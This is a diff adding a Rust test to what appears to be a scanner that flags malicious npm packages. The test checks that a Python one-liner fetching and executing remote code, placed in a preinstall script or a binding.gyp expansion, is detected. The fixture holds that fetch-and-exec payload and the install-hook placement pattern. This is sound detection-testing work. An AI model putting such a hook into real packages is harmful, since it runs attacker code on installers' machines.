@@ -161,3 +161,40 @@ spawn(process.execPath, [require('path').join(__dirname, 'check.js')], { detache
         assert_not_verdict(&analysis, Verdict::Malicious);
     }
 }
+
+#[test]
+fn python_handed_code_by_an_install_script_or_gyp_file_is_read_as_python() {
+    let fetch_exec =
+        r#"import urllib.request as u;exec(u.urlopen('https://cdn.example/s').read())"#;
+    let manifest = format!(
+        r#"{{ "name": "demo", "version": "1.0.0", "main": "index.js",
+  "scripts": {{ "preinstall": "python3 -c \"{fetch_exec}\" || true" }} }}"#
+    );
+    let attack = analyse(&[
+        ("package.json", &manifest),
+        ("index.js", "module.exports = {};\n"),
+    ]);
+    assert_verdict(&attack, Verdict::Malicious);
+    assert_has(&attack, "execution/python-exec-remote");
+
+    let gyp = format!(
+        "{{\n  'variables': {{ 'v': '<!(python3 -c \"{}\")' }},\n  'targets': [{{ 'target_name': 'h', 'sources': ['h.cc'] }}]\n}}\n",
+        fetch_exec.replace('\'', "\\'")
+    );
+    let attack = analyse(&[
+        ("package.json", MAIN),
+        ("binding.gyp", &gyp),
+        ("h.cc", "int x;\n"),
+    ]);
+    assert_verdict(&attack, Verdict::Malicious);
+    assert_has(&attack, "execution/python-exec-remote");
+
+    // Build scripts ask Python for its version or a path all the time.
+    let honest = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js",
+  "scripts": { "install": "python3 -c \"import sys; print(sys.version_info[:2])\" && node-gyp rebuild" } }"#;
+    let analysis = analyse(&[
+        ("package.json", honest),
+        ("index.js", "module.exports = {};\n"),
+    ]);
+    assert_verdict(&analysis, Verdict::Clean);
+}
